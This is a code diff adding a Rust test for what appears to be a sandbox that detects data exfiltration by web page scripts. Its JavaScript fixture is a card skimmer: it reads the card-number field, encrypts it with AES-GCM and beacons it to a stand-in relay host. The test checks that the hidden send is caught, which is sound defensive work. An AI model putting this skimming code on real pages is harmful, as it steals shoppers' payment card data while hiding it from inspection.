@@ -834,4 +834,34 @@ mod tests {
             vec!["pay-x".to_string(), "n1".to_string()]
         );
     }
+
+    #[test]
+    fn what_is_sent_sealed_carries_what_was_sealed() {
+        // The card sealed with AES-GCM under a digest-derived key, sent as hex: the send is
+        // recorded with the plaintext, and the decrypted endpoint is the real one.
+        let src = r#"
+            var S = crypto.subtle, te = new TextEncoder();
+            var hex = function (b) { return Array.from(new Uint8Array(b), function (x) { return ('0' + x.toString(16)).slice(-2); }).join(''); };
+            S.digest('SHA-256', te.encode('k')).then(function (h) {
+              return S.importKey('raw', h, 'AES-GCM', false, ['encrypt']);
+            }).then(function (k) {
+              var iv = crypto.getRandomValues(new Uint8Array(16));
+              return S.encrypt({ name: 'AES-GCM', iv: iv }, k, te.encode(document.getElementById('cc_number').value));
+            }).then(function (ct) {
+              new Image().src = 'https://x-relay.example/p?d=' + hex(ct) + '&id=' + crypto.randomUUID();
+            });
+        "#;
+        let obs = observe(src, limits(false), None).unwrap();
+        assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
+        assert!(
+            obs.sends[0].2.contains(PAN) || obs.sends[0].1.contains(PAN),
+            "{:?}",
+            obs.sends
+        );
+        assert!(
+            !obs.sends[0].1.contains(PAN),
+            "the URL itself is sealed: {:?}",
+            obs.sends
+        );
+    }
 }
